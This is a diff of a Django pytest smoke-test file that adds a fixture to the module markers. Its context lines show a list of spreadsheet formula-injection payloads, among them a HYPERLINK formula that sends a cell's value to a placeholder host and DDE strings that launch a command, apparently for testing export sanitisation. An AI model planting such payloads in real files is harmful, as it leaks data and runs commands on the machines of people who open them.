@@ -34,7 +34,7 @@ from casefiles.services.registry_import import schemes_importable_by
 from casefiles.testing import attach_required_materials, demo_user_for, fire, identity, path_to
 from tests.casefiles.factories import PASSWORD, setup_schemes, user
 
-pytestmark = [pytest.mark.django_db, pytest.mark.smoke]
+pytestmark = [pytest.mark.django_db, pytest.mark.smoke, pytest.mark.usefixtures("schemes_once")]
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?q="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
